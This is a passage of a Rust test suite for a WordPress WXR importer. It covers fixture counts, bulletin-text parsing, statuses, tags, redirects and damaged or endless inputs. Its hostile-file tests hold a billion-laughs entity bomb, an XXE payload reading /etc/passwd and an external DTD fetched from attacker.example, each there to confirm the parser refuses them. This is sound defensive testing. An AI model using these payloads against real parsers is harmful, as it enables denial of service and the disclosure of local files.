//! WordPress WXR import: the theme unit test export, bulletin text inside posts,
//! hostile and damaged files, and generated exports in flat memory. (Throughput
//! is measured by `benches/wxr.rs`.)

use std::collections::BTreeMap;
use std::io::{BufReader, Read};
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use bulletin_import::{Diagnostic, ImportedStory, Item, PostStatus, Report, Settings, html, wxr};
use jiff::civil::date;
use proptest::prelude::*;

/// The WordPress theme unit test export under `../shared` (absent: a failure
/// saying how to provide it, or a counted skip when skipping is allowed).
fn fixture() -> Option<PathBuf> {
    bulletin_test_support::shared("fixtures/wxr/themeunittestdata.wordpress.xml")
}

/// Every item of a whole import, or the first error.
fn import(bytes: &[u8]) -> Result<Vec<Item>, Diagnostic> {
    wxr::read("test.xml", bytes, &Settings::default()).collect()
}

/// The error an import ends with (and that it ends with one).
fn import_error(bytes: &[u8]) -> Diagnostic {
    let items: Vec<_> = wxr::read("test.xml", bytes, &Settings::default()).collect();
    match items.last() {
        Some(Err(e)) => e.clone(),
        other => panic!("expected the import to end with an error, got {other:?}"),
    }
}

fn stories(items: &[Item]) -> Vec<&ImportedStory> {
    items
        .iter()
        .filter_map(|i| match i {
            Item::Story(s) => Some(&**s),
            _ => None,
        })
        .collect()
}

fn story<'a>(items: &'a [Item], title: &str) -> &'a ImportedStory {
    stories(items)
        .into_iter()
        .find(|s| s.title == title)
        .unwrap_or_else(|| panic!("no story titled {title:?}"))
}

fn warnings(items: &[Item]) -> Vec<&Diagnostic> {
    items
        .iter()
        .filter_map(|i| match i {
            Item::Warning(w) => Some(w),
            _ => None,
        })
        .collect()
}

fn read_fixture() -> Option<Vec<Item>> {
    let path = fixture()?;
    let bytes = std::fs::read(path).unwrap();
    Some(import(&bytes).unwrap_or_else(|e| panic!("{}", e.display("fixture"))))
}

/// Counts taken from the file itself (grep over the 12,578 lines, minding that
/// some values are CDATA and some plain):
/// - `<wp:post_type>`: post 19 + 39 = 58, page 3 + 18 = 21, attachment 37,
///   nav_menu_item 5 + 65 = 70.
/// - the 58 posts' `<wp:status>`: 56 publish (one of them, "Template: Password
///   Protected", has a `<wp:post_password>`: imported as private), 1 draft
///   ("Draft"), 1 future ("Scheduled").
/// - two published posts have no text: "Edge Case: No Content" (empty) and
///   "Post Format: Image" (one image and a `&nbsp;`): kept, each with a line
///   saying what was left out and a warning (WordPress shows both).
/// - `<wp:comment>` 33; `<wp:author>` 2.
/// - `<wp:tag>` 110 and `<wp:category>` 68, of which "Uncategorized" is dropped
///   and six share an address with an earlier one (tag "edge case" / category
///   "Edge Case", "markup"/"Markup", "media"/"Media", "template"/"Template",
///   "Post Formats" both ways, and the two categories named "Foo A"): 171 tags.
/// - `<wp:term>` 7: one repeats the category "6.1", six are menus (skipped).
/// - 18 tags whose WordPress slug is not their new slug (`alignment-2` →
///   `alignment`, `mustread` → `must-read`, ...) and 67 categories give 85
///   redirects; each story adds its `/?p=ID` and any other old address.
#[test]
fn fixture_counts() {
    let Some(items) = read_fixture() else { return };
    let mut report = Report::default();
    for item in &items {
        report.record(item);
    }
    assert_eq!(
        report.site,
        Some((
            "Theme Unit Test Data".to_owned(),
            "https://wpthemetestdata.wordpress.com".to_owned()
        ))
    );
    let expected_stories: BTreeMap<&str, u64> =
        [("publish", 55), ("private", 1), ("draft", 1), ("future", 1)].into();
    assert_eq!(report.stories, expected_stories);
    let skipped: BTreeMap<&str, u64> = report
        .skipped
        .iter()
        .map(|(kind, (n, _))| (kind.as_str(), *n))
        .collect();
    let expected_skipped: BTreeMap<&str, u64> = [
        ("page", 21),
        ("attachment", 37),
        ("nav_menu_item", 70),
        ("comment", 33),
        ("author", 2),
        ("term", 6),
        ("category", 1),
    ]
    .into();
    assert_eq!(skipped, expected_skipped);
    assert_eq!(report.tags, 171);
    let redirects = items
        .iter()
        .filter(|i| matches!(i, Item::Redirect { .. }))
        .count();
    assert_eq!(redirects, 85);
    let tag_redirects = items
        .iter()
        .filter(|i| matches!(i, Item::Redirect { from, .. } if from.starts_with("/tag/")))
        .count();
    assert_eq!(tag_redirects, 18);
    // The posts without text are stories that say what was left out.
    let image = story(&items, "Post Format: Image");
    assert_eq!(image.story.body, ["[image left out]"]);
    assert_eq!(image.story.slug, "post-format-image");
    assert_eq!(
        image.source.as_deref(),
        Some("wordpress wpthemetestdata.wordpress.com/?p=1158")
    );
    let empty = story(&items, "Edge Case: No Content");
    assert_eq!(empty.story.body, ["[no text]"]);
    assert_eq!(empty.old_paths, ["/?p=1170"]);
    // Every story is a valid story, and no old address is its new one.
    for s in stories(&items) {
        assert_eq!(s.story.validate(), Ok(()), "{}", s.title);
        assert!(!s.old_paths.contains(&s.story.url()), "{}", s.title);
        assert!(
            s.old_paths.iter().all(|p| p.starts_with('/')),
            "{:?}",
            s.old_paths
        );
    }
}

#[test]
fn fixture_spot_checks() {
    let Some(items) = read_fixture() else { return };

    let s = story(&items, "Markup: HTML Tags and Formatting");
    assert_eq!(s.status, PostStatus::Published);
    assert_eq!(s.story.headline, "Markup: HTML Tags and Formatting");
    assert_eq!(s.story.slug, "markup-html-tags-and-formatting");
    assert_eq!(s.story.dateline.date, date(2013, 1, 11));
    assert_eq!(s.story.dateline.places, Vec::<String>::new());
    assert_eq!(s.story.dateline.credit, "The Bulletin");
    assert_eq!(
        s.story.url(),
        "/2013/01/11/markup-html-tags-and-formatting/"
    );
    // Its <link> is the new URL: only /?p=ID remains to redirect.
    assert_eq!(s.old_paths, ["/?p=1178"]);
    // Tags and categories, "markup" merged into "Markup" (one address).
    assert_eq!(
        s.story.tags,
        [
            "Classic",
            "content περιεχόμενο",
            "css",
            "formatting",
            "html",
            "Markup"
        ]
    );
    assert_eq!(s.story.body[0], "Headings");
    assert!(
        s.story
            .body
            .contains(&"Stay hungry. Stay foolish.".to_owned())
    );
    assert!(
        s.story
            .body
            .contains(&"John Doe $1 Because that's all Steve Jobs needed for a salary.".to_owned()),
        "table rows are paragraphs, cells separated by spaces"
    );
    // `&lt;blockquote&gt;` in the post is text, and stays text.
    assert!(
        s.story
            .body
            .iter()
            .any(|p| p
                .starts_with("The HTML <blockquote> Element (or HTML Block Quotation Element)"))
    );
    assert_eq!(s.story.copyright.year, 2013);
    assert_eq!(s.story.issue, None);

    // No markup from any post survives: the fixture's posts are full of it.
    for s in stories(&items) {
        for p in &s.story.body {
            for tag in [
                "<p>",
                "<p ",
                "<div",
                "<img",
                "<a ",
                "<strong>",
                "<em>",
                "<figure",
                "<li>",
                "<ul",
                "<ol",
                "<table",
                "<td",
                "<tr",
                "<span",
                "<br",
                "<h2",
                "<h3",
                "<script",
                "<iframe",
                "<video",
                "<audio",
                "<!-- wp:paragraph",
                "[gallery",
                "[caption",
                "[/caption]",
            ] {
                assert!(!p.contains(tag), "{:?} in {:?}: {p}", tag, s.title);
            }
            assert!(!p.contains('\n') && p.trim() == p && !p.is_empty());
        }
    }

    // A title with markup is plain text; special characters stay as written.
    let s = story(&items, "Markup: Title With Markup");
    assert_eq!(s.story.slug, "markup-title-with-markup");
    let s = story(
        &items,
        "Markup: Title With Special Characters ~`!@#$%^&*()-_=+{}[]/\\;:'\"?,.>",
    );
    assert_eq!(s.story.slug, "title-with-special-characters");
    assert_eq!(s.story.dateline.date, date(2013, 1, 5));

    // Block-editor post: its link's day differs from its date; both addresses kept.
    let s = story(&items, "Block category: Common");
    assert_eq!(s.story.url(), "/2018/11/01/block-category-common/");
    assert_eq!(
        s.old_paths,
        ["/2018/11/02/block-category-common/", "/?p=1730"]
    );
    assert_eq!(
        s.story.body[0],
        "The Common category includes the following blocks: Paragraph, image, headings, list, gallery, quote, audio, cover, video."
    );

    // A post whose permalink had no date.
    let s = story(&items, "WP 6.1 Theme block category");
    assert_eq!(s.story.slug, "theme-block-category");
    assert_eq!(
        s.old_paths,
        ["/wp-6-1-theme-block-category/", "/?p=51"],
        "the dated path is the new URL"
    );

    // Scheduled, draft and password-protected posts keep what they were.
    let s = story(&items, "Scheduled");
    assert_eq!(
        s.status,
        PostStatus::Scheduled("2030-01-01T19:00:18Z".parse().unwrap())
    );
    assert_eq!(s.old_paths, ["/2020/01/01/scheduled/", "/?p=1153"]);
    let s = story(&items, "Draft");
    assert_eq!(s.status, PostStatus::Draft);
    assert_eq!(
        s.story.slug, "draft",
        "no wp:post_name: the slug comes from the title"
    );
    assert_eq!(
        s.story.body,
        [
            "This post is drafted and not published yet.",
            "It should not be displayed by the theme."
        ]
    );
    let s = story(
        &items,
        "Template: Password Protected (the password is \"enter\")",
    );
    assert_eq!(s.status, PostStatus::Private);
    let w = warnings(&items);
    assert!(
        w.iter()
            .any(|d| d.line == s.line && d.message.contains("password-protected"))
    );

    // The untitled post: a headline from its first words, and a warning.
    let s = stories(&items)
        .into_iter()
        .find(|s| s.story.slug == "edge-case-no-title")
        .unwrap();
    assert_eq!(s.title, "");
    assert_eq!(
        s.story.headline,
        "This post has no title, but it still must link\u{2026}"
    );
    assert!(
        w.iter()
            .any(|d| d.line == s.line && d.message.contains("no title"))
    );

    // Shortcodes: the caption's words stay, galleries go (and are counted).
    let s = story(&items, "Post Format: Image (Caption)");
    assert_eq!(s.story.body, ["Bell on wharf in San Francisco"]);
    let s = story(&items, "Post Format: Gallery");
    assert!(s.story.body.iter().all(|p| !p.contains('[')));
    assert!(
        w.iter()
            .any(|d| d.line == s.line && d.message.contains("left out 10 galleries"))
    );

    // An excerpt is dropped when there is content.
    let s = story(&items, "Template: Excerpt (Defined)");
    assert_eq!(
        s.story.body,
        [
            "This is the post content. It should be displayed in place of the user-defined excerpt in single-page views."
        ]
    );

    // Warnings name the post and point at its <item>.
    let d = w
        .iter()
        .find(|d| d.message.contains("Edge Case: No Content"))
        .unwrap();
    assert_eq!(
        d.message,
        "the post “Edge Case: No Content”: it has no text; it is kept, with “[no text]” as its only paragraph"
    );
    assert_eq!(
        (d.line, d.column, d.source_line.as_str()),
        (10107, 1, "<item>")
    );

    // Tags, categories and their old addresses.
    let tags: BTreeMap<&str, &str> = items
        .iter()
        .filter_map(|i| match i {
            Item::Tag(t) => Some((t.name.as_str(), t.slug.as_str())),
            _ => None,
        })
        .collect();
    assert_eq!(tags.get("Must Read"), Some(&"must-read"));
    assert_eq!(
        tags.get("content περιεχόμενο"),
        Some(&"content-periekhomeno")
    );
    assert_eq!(tags.get("Uncategorized"), None);
    assert_eq!(tags.get("markup"), None, "merged into “Markup”");
    let block = items.iter().find_map(|i| match i {
        Item::Tag(t) if t.name == "Block" => Some(t),
        _ => None,
    });
    assert_eq!(
        block.map(|t| t.description.as_str()),
        Some("Items in the block category have been created with the block editor.")
    );
    let redirect = |from: &str| {
        items.iter().find_map(|i| match i {
            Item::Redirect { from: f, to } if f == from => Some(to.as_str()),
            _ => None,
        })
    };
    assert_eq!(redirect("/tag/mustread/"), Some("/tag/must-read/"));
    assert_eq!(redirect("/tag/markup-2/"), Some("/tag/markup/"));
    assert_eq!(redirect("/tag/css/"), None, "same address: no redirect");
    assert_eq!(redirect("/category/edge-case-2/"), Some("/tag/edge-case/"));
    assert_eq!(redirect("/category/aciform/sub/"), Some("/tag/sub/"));
    assert_eq!(
        redirect("/category/parent/child-1/child-2/"),
        Some("/tag/child-2/")
    );
    assert_eq!(
        redirect("/category/parent-category/child-category-03/grandchild-category/"),
        Some("/tag/grandchild-category/")
    );
    assert_eq!(
        redirect("/category/foo-parent/foo-a-foo-parent/"),
        Some("/tag/foo-a/")
    );
    assert_eq!(redirect("/category/uncategorized/"), None);
}

/// A minimal WordPress export around `items`.
fn export(items: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
         <rss version=\"2.0\" xmlns:excerpt=\"http://wordpress.org/export/1.2/excerpt/\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\" xmlns:wp=\"http://wordpress.org/export/1.2/\">\n\
         <channel>\n\
         <title>Test site</title>\n\
         <link>https://old.example</link>\n\
         {items}\
         </channel>\n\
         </rss>\n"
    )
}

/// One `<item>` of type post.
fn post(title: &str, name: &str, date: &str, content: &str, extra: &str) -> String {
    format!(
        "<item>\n\
         <title><![CDATA[{title}]]></title>\n\
         <link>https://old.example/?p=42</link>\n\
         <content:encoded><![CDATA[{content}]]></content:encoded>\n\
         <wp:post_id>42</wp:post_id>\n\
         <wp:post_date><![CDATA[{date}]]></wp:post_date>\n\
         <wp:post_date_gmt><![CDATA[0000-00-00 00:00:00]]></wp:post_date_gmt>\n\
         <wp:post_name><![CDATA[{name}]]></wp:post_name>\n\
         <wp:status><![CDATA[publish]]></wp:status>\n\
         <wp:post_type><![CDATA[post]]></wp:post_type>\n\
         {extra}\
         </item>\n"
    )
}

/// Bulletin text written for this test; the same stories as HTML posts.
const HEADLINE: &str = "Kyrgyz court upholds fine against radio station";
const BULLETIN_TEXT: &str = "Kyrgyz court upholds fine against radio station\n\n\
    BISHKEK/MARCH 3 2022 (The Bulletin) \u{2014} A district court on Thursday upheld a fine imposed on an independent radio station for broadcasting an interview with a politician living abroad.\n\n\
    The station\u{2019}s lawyer said the ruling would be appealed &amp; that the station would keep broadcasting.\n\n\
    ENDS\n\n\
    \u{2014} This story was first published in issue 512 of the Central Asia & South Caucasus Bulletin, on March 8 2022\n\n\
    \u{2014} Copyright the Central Asia & South Caucasus Bulletin 2022\n";

#[test]
fn bulletin_text_in_a_post_reads_as_the_text_reader_reads_it() {
    // The post body as a block editor stores it: one <p> per line of the text.
    let html = "<!-- wp:paragraph -->\n<p>BISHKEK/MARCH 3 2022 (The Bulletin) &#8212; A district court on Thursday upheld a fine imposed on an independent radio station for broadcasting an interview with a politician living abroad.</p>\n<!-- /wp:paragraph -->\n\n\
        <p>The station&#8217;s lawyer said the ruling would be appealed &amp;amp; that the station would keep broadcasting.</p>\n\n\
        <p>ENDS</p>\n\
        <p>&#8212; This story was first published in issue 512 of the Central Asia &amp; South Caucasus Bulletin, on March 8 2022</p>\n\
        <p>&#8212; Copyright the Central Asia &amp; South Caucasus Bulletin 2022</p>";
    let categories = "<category domain=\"category\" nicename=\"kyrgyzstan\"><![CDATA[Kyrgyzstan]]></category>\n\
        <category domain=\"post_tag\" nicename=\"press-freedom\"><![CDATA[press freedom]]></category>\n";
    let xml = export(&post(
        HEADLINE,
        "court-upholds-radio-fine",
        "2022-03-04 10:00:00",
        html,
        categories,
    ));
    let items = import(xml.as_bytes()).unwrap_or_else(|e| panic!("{}", e.display("t")));
    let imported = &stories(&items)[0].story;
    assert!(warnings(&items).is_empty(), "{:?}", warnings(&items));

    let doc = bulletin_text::read_str(BULLETIN_TEXT).unwrap();
    let mut from_text = doc.stories[0].clone();
    // WordPress gives the slug and the tags; everything else is the reader's.
    assert_eq!(imported.slug, "court-upholds-radio-fine");
    assert_eq!(imported.tags, ["Kyrgyzstan", "press freedom"]);
    from_text.slug = imported.slug.clone();
    from_text.tags = imported.tags.clone();
    assert_eq!(*imported, from_text);
    // And the reader read what the text says.
    assert_eq!(imported.dateline.places, ["Bishkek"]);
    assert_eq!(imported.dateline.date, date(2022, 3, 3));
    assert_eq!(
        imported.issue.map(|i| (i.number, i.date)),
        Some((512, Some(date(2022, 3, 8))))
    );
    assert!(imported.first_published);
    assert_eq!(imported.copyright.year, 2022);
    assert_eq!(imported.countries, ["KG"]);
    assert_eq!(
        imported.body[1],
        "The station\u{2019}s lawyer said the ruling would be appealed &amp; that the station would keep broadcasting."
    );
}

#[test]
fn bulletin_text_variants_in_posts() {
    // Classic-editor text (blank lines, no <p>), a dateline without a year, an en
    // dash with no space, the headline repeated at the top, `— ENDS`.
    let text = "Almaty police detain picket organisers\n\n\
        ALMATY/NOV. 2 (The Bulletin) \u{2013}Police detained three organisers of a picket outside the city hall.\n\n\
        Their lawyer said the detentions were unlawful.\n\n\
        \u{2014} ENDS\n\n\
        \u{2014} This story was published in issue 481 of the Central Asia & South Caucasus Bulletin, on Nov. 4 2021.\n\n\
        \u{2014} Copyright the Central Asia & South Caucasus Bulletin 2021\n";
    let html = text.replace('&', "&amp;");
    let xml = export(&post(
        "Almaty police detain picket organisers",
        "",
        "2021-11-05 08:00:00",
        &html,
        "",
    ));
    let items = import(xml.as_bytes()).unwrap();
    let imported = &stories(&items)[0].story;
    let mut expected = bulletin_text::read_str(text).unwrap().stories.remove(0);
    expected.tags = Vec::new();
    assert_eq!(
        *imported, expected,
        "the repeated headline is not a paragraph"
    );
    assert!(imported.dateline.year_inferred);
    assert_eq!(imported.dateline.date, date(2021, 11, 2));
    // The reader's warning about the inferred year reaches the import.
    assert!(
        warnings(&items)
            .iter()
            .any(|w| w.message.contains("was inferred from the issue date"))
    );

    // A dateline and no footers: the dateline is read, no issue is invented.
    let html = "<p>YEREVAN/MAY 30 (The Bulletin) &#8212; Parliament approved a new media law on Monday.</p><p>Critics said it was rushed.</p>";
    let xml = export(&post(
        "Armenian parliament approves media law",
        "media-law",
        "2022-06-01 09:00:00",
        html,
        "",
    ));
    let items = import(xml.as_bytes()).unwrap();
    let s = &stories(&items)[0].story;
    assert_eq!(s.dateline.places, ["Yerevan"]);
    assert_eq!(s.dateline.date, date(2022, 5, 30));
    assert_eq!(
        s.body,
        [
            "Parliament approved a new media law on Monday.",
            "Critics said it was rushed."
        ]
    );
    assert_eq!(s.issue, None);
    assert!(!s.first_published);
    assert_eq!(
        (s.copyright.holder.as_str(), s.copyright.year),
        ("Central Asia & South Caucasus Bulletin", 2022)
    );

    // Broken bulletin text: a plain story, and a warning quoting the reader.
    let html = "<p>TBILISI/JUNE 2 2022 (The Bulletin) &#8212; Text.</p><p>ENDS</p><p>&#8212; This story was published in issue twelve of the Bulletin</p>";
    let xml = export(&post(
        "Broken footer",
        "broken",
        "2022-06-03 09:00:00",
        html,
        "",
    ));
    let items = import(xml.as_bytes()).unwrap();
    let s = &stories(&items)[0].story;
    assert_eq!(s.issue, None);
    assert_eq!(s.body.len(), 3);
    let w = warnings(&items);
    assert_eq!(w.len(), 1);
    assert!(w[0].message.starts_with("the post “Broken footer”: the body looks like bulletin text, but the text reader cannot read it (unreadable issue number"), "{}", w[0].message);
}

#[test]
fn statuses_dates_and_skips() {
    let draft = post("A draft", "a-draft", "2022-01-10 09:00:00", "Text.", "")
        .replace("<![CDATA[publish]]>", "draft");
    let future = post("Later", "later", "2031-01-10 09:00:00", "Text.", "")
        .replace("<![CDATA[publish]]>", "future");
    let trash = post("Binned", "binned", "2022-01-10 09:00:00", "Text.", "")
        .replace("<![CDATA[publish]]>", "trash");
    let odd = post("Odd", "odd", "2022-01-10 09:00:00", "Text.", "")
        .replace("<![CDATA[publish]]>", "pitch");
    let revision = post("Rev", "rev", "2022-01-10 09:00:00", "Text.", "")
        .replace("<![CDATA[post]]>", "revision");
    let xml = export(&format!("{draft}{future}{trash}{odd}{revision}"));
    let settings = Settings {
        time_zone: jiff::tz::TimeZone::fixed(jiff::tz::offset(5)),
        ..Settings::default()
    };
    let items: Vec<Item> = wxr::read("t", xml.as_bytes(), &settings)
        .collect::<Result<_, _>>()
        .unwrap();
    let s = stories(&items);
    assert_eq!(s[0].status, PostStatus::Draft);
    // No GMT time: the local time in the publication's zone (UTC+5).
    assert_eq!(
        s[1].status,
        PostStatus::Scheduled("2031-01-10T04:00:00Z".parse().unwrap())
    );
    assert_eq!(
        s[2].status,
        PostStatus::Draft,
        "an unknown status is a draft"
    );
    assert!(
        warnings(&items)
            .iter()
            .any(|w| w.message.contains("“pitch”"))
    );
    let skipped: Vec<(&str, &str)> = items
        .iter()
        .filter_map(|i| match i {
            Item::Skipped { kind, title, .. } => Some((kind.as_str(), title.as_str())),
            _ => None,
        })
        .collect();
    assert_eq!(skipped, [("trash", "Binned"), ("revision", "Rev")]);
    assert_eq!(
        items.first(),
        Some(&Item::Site {
            title: "Test site".into(),
            url: "https://old.example".into()
        })
    );
}

#[test]
fn tag_names_are_cleaned_once_for_tags_and_stories() {
    let terms = "<wp:tag><wp:tag_slug>washington-dc</wp:tag_slug><wp:tag_name><![CDATA[Washington, D.C.]]></wp:tag_name></wp:tag>\n\
        <wp:category><wp:category_nicename>news</wp:category_nicename><wp:category_parent></wp:category_parent><wp:cat_name><![CDATA[News &amp; Views]]></wp:cat_name></wp:category>\n";
    let categories = "<category domain=\"post_tag\" nicename=\"washington-dc\"><![CDATA[Washington, D.C.]]></category>\n\
        <category domain=\"category\" nicename=\"news\"><![CDATA[News &amp; Views]]></category>\n\
        <category domain=\"post_format\" nicename=\"post-format-aside\"><![CDATA[Aside]]></category>\n\
        <category domain=\"category\" nicename=\"uncategorized\"><![CDATA[Uncategorized]]></category>\n";
    let item = post(
        "Envoy visits",
        "envoy-visits",
        "2022-02-02 10:00:00",
        "Text.",
        categories,
    );
    let items = import(export(&format!("{terms}{item}")).as_bytes()).unwrap();
    let tags: Vec<(&str, &str)> = items
        .iter()
        .filter_map(|i| match i {
            Item::Tag(t) => Some((t.name.as_str(), t.slug.as_str())),
            _ => None,
        })
        .collect();
    assert_eq!(
        tags,
        [
            ("Washington D.C.", "washington-d-c"),
            ("News & Views", "news-views")
        ]
    );
    assert_eq!(
        stories(&items)[0].story.tags,
        ["Washington D.C.", "News & Views"]
    );
    let w = warnings(&items);
    assert_eq!(w.len(), 1, "{w:?}");
    assert!(w[0].message.contains("holds commas"));
    let redirects: Vec<(&str, &str)> = items
        .iter()
        .filter_map(|i| match i {
            Item::Redirect { from, to } => Some((from.as_str(), to.as_str())),
            _ => None,
        })
        .collect();
    assert_eq!(
        redirects,
        [
            ("/tag/washington-dc/", "/tag/washington-d-c/"),
            ("/category/news/", "/tag/news-views/")
        ]
    );
}

#[test]
fn an_excerpt_stands_in_for_empty_content() {
    let excerpt = "<excerpt:encoded><![CDATA[<p>Only the <em>summary</em> survived.</p>]]></excerpt:encoded>\n";
    let empty = post(
        "Summary only",
        "summary-only",
        "2022-02-02 10:00:00",
        "",
        excerpt,
    );
    let full = post("Both", "both", "2022-02-02 10:00:00", "The text.", excerpt);
    let items = import(export(&format!("{empty}{full}")).as_bytes()).unwrap();
    let s = stories(&items);
    assert_eq!(s[0].story.body, ["Only the summary survived."]);
    assert_eq!(
        s[1].story.body,
        ["The text."],
        "with content, the excerpt is dropped"
    );
    let w = warnings(&items);
    assert_eq!(w.len(), 1);
    assert_eq!(
        w[0].message,
        "the post “Summary only”: its content is empty; its excerpt is the story's text"
    );
}

/// Nine levels of entities of ten each: a billion "lol"s if expanded.
const BILLION_LAUGHS: &str = "<?xml version=\"1.0\"?>\n\
<!DOCTYPE rss [\n\
 <!ENTITY lol \"lol\">\n\
 <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n\
 <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n\
 <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n\
 <!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n\
 <!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n\
 <!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n\
 <!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">\n\
 <!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">\n\
 <!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">\n\
]>\n\
<rss xmlns:wp=\"http://wordpress.org/export/1.2/\"><channel><title>&lol9;</title></channel></rss>\n";

#[test]
fn entity_expansion_bomb_is_refused() {
    let started = Instant::now();
    let e = import_error(BILLION_LAUGHS.as_bytes());
    assert!(started.elapsed() < Duration::from_secs(10));
    assert_eq!((e.line, e.column), (2, 1));
    assert!(
        e.message.contains("DTD") && e.message.contains("refused"),
        "{}",
        e.message
    );
    assert!(e.message.contains("declares entities"), "{}", e.message);
    assert_eq!(e.source_line, "<!DOCTYPE rss [");
    assert!(e.is_error());

    // The same reference with no DTD at all is not expanded either.
    let xml = export("<item><title>Hello &lol9; world</title></item>\n");
    let e = import_error(xml.as_bytes());
    assert_eq!((e.line, e.column), (6, 20));
    assert!(
        e.message.contains("“&lol9;” is not defined"),
        "{}",
        e.message
    );
}

#[test]
fn external_entities_are_refused() {
    // A bare document type names no entities and no file: harmless.
    let bare = export("").replace("<rss ", "<!DOCTYPE rss>\n<rss ");
    assert!(import(bare.as_bytes()).is_ok());

    let xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<rss xmlns:wp=\"http://wordpress.org/export/1.2/\"><channel><title>&xxe;</title></channel></rss>\n";
    let e = import_error(xml.as_bytes());
    assert_eq!((e.line, e.column), (2, 1));
    assert!(
        e.message.contains("DTD") && e.message.contains("refused"),
        "{}",
        e.message
    );
    let xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE rss SYSTEM \"http://attacker.example/evil.dtd\">\n<rss xmlns:wp=\"http://wordpress.org/export/1.2/\"><channel/></rss>\n";
    let e = import_error(xml.as_bytes());
    assert_eq!((e.line, e.column), (2, 1));
    assert!(e.message.contains("names an external DTD"), "{}", e.message);
}

/// A reader that never ends, counting what is taken from it.
struct Endless {
    head: Vec<u8>,
    filler: &'static [u8],
    at: usize,
    taken: Arc<AtomicU64>,
}

impl Read for Endless {
    fn read(&mut self, out: &mut [u8]) -> std::io::Result<usize> {
        let mut n = 0;
        while n < out.len() {
            let byte = if self.at < self.head.len() {
                self.head[self.at]
            } else {
                self.filler[(self.at - self.head.len()) % self.filler.len()]
            };
            out[n] = byte;
            n += 1;
            self.at += 1;
        }
        self.taken.fetch_add(n as u64, Ordering::Relaxed);
        Ok(n)
    }
}

#[test]
fn endless_inputs_stop_in_bounded_memory() {
    // An internal subset that never closes: refused after a megabyte.
    let taken = Arc::new(AtomicU64::new(0));
    let endless = Endless {
        head: b"<?xml version=\"1.0\"?>\n<!DOCTYPE rss [\n".to_vec(),
        filler: b"<!ENTITY a \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\">\n",
        at: 0,
        taken: taken.clone(),
    };
    let items: Vec<_> = wxr::read("t", BufReader::new(endless), &Settings::default()).collect();
    let Some(Err(e)) = items.last() else {
        panic!("{items:?}")
    };
    assert_eq!((e.line, e.column), (2, 1));
    assert!(e.message.contains("larger than 1 MiB"), "{}", e.message);
    assert!(taken.load(Ordering::Relaxed) < 2 << 20);

    // A body that never ends: refused at 16 MiB.
    let taken = Arc::new(AtomicU64::new(0));
    let head = export("").replace("</channel>\n</rss>\n", "<item><content:encoded><![CDATA[");
    let endless = Endless {
        head: head.into_bytes(),
        filler: b"All work and no play. ",
        at: 0,
        taken: taken.clone(),
    };
    let items: Vec<_> = wxr::read("t", BufReader::new(endless), &Settings::default()).collect();
    let Some(Err(e)) = items.last() else {
        panic!("{items:?}")
    };
    assert_eq!(e.line, 6);
    assert!(e.message.contains("larger than 16 MiB"), "{}", e.message);
    assert!(taken.load(Ordering::Relaxed) < 18 << 20);
}

#[test]
fn truncated_files_say_where_they_end() {
    let mut full = Vec::new();
    wxr::synth::generate(12, 3, &mut full).unwrap();
    let full = String::from_utf8(full).unwrap();
    let line_of = |at: usize| full[..at].matches('\n').count() as u64 + 1;

    // Cut between two fields of the fifth item.
    let item = full.match_indices("\t<item>").nth(4).unwrap().0;
    let cut = item + full[item..].find("<wp:post_id>").unwrap();
    let e = import_error(&full.as_bytes()[..cut]);
    assert!(
        e.message.starts_with(&format!(
            "the file ends early, at line {}: <item> opened here is never closed",
            line_of(cut)
        )),
        "{}",
        e.message
    );
    assert_eq!((e.line, e.column), (line_of(item), 2));
    assert_eq!(e.source_line, "\t<item>");

    // Cut inside a post's body.
    let body = full.find("<content:encoded><![CDATA[").unwrap() + 17;
    let mut cut = body + 100;
    while full.as_bytes()[cut - 1] == b'\n' {
        cut -= 1;
    }
    let e = import_error(&full.as_bytes()[..cut]);
    assert_eq!(e.line, line_of(body));
    assert!(
        e.message.contains(&format!(
            "ends early, at line {}, inside a CDATA section",
            line_of(cut)
        )),
        "{}",
        e.message
    );

    // Cut after the last item, before </channel>.
    let cut = full.rfind("</channel>").unwrap();
    let e = import_error(&full.as_bytes()[..cut]);
    assert!(
        e.message.contains("<channel> opened here is never closed"),
        "{}",
        e.message
    );
    // Items before the cut were read; the error comes last, so nothing is half-imported
    // by a caller that rolls back on it.
    let all: Vec<_> = wxr::read("t", &full.as_bytes()[..cut], &Settings::default()).collect();
    assert_eq!(
        all.iter()
            .filter(|i| matches!(i, Ok(Item::Story(_))))
            .count(),
        12
    );
    assert!(all.last().unwrap().is_err());
}

#[test]
fn encodings_other_than_utf8_are_refused() {
    let xml = export("").replace("encoding=\"UTF-8\"", "encoding=\"ISO-8859-1\"");
    let e = import_error(xml.as_bytes());
    assert_eq!((e.line, e.column), (1, 1));
    assert!(
        e.message.contains("“ISO-8859-1”") && e.message.contains("UTF-8"),
        "{}",
        e.message
    );

    // Latin-1 bytes in a file that says (or assumes) UTF-8.
    let mut xml = export(&post("Caf\u{e9}", "cafe", "2022-01-01 00:00:00", "x", "")).into_bytes();
    let at = xml
        .windows(5)
        .position(|w| w == "Caf\u{e9}".as_bytes())
        .unwrap()
        + 3;
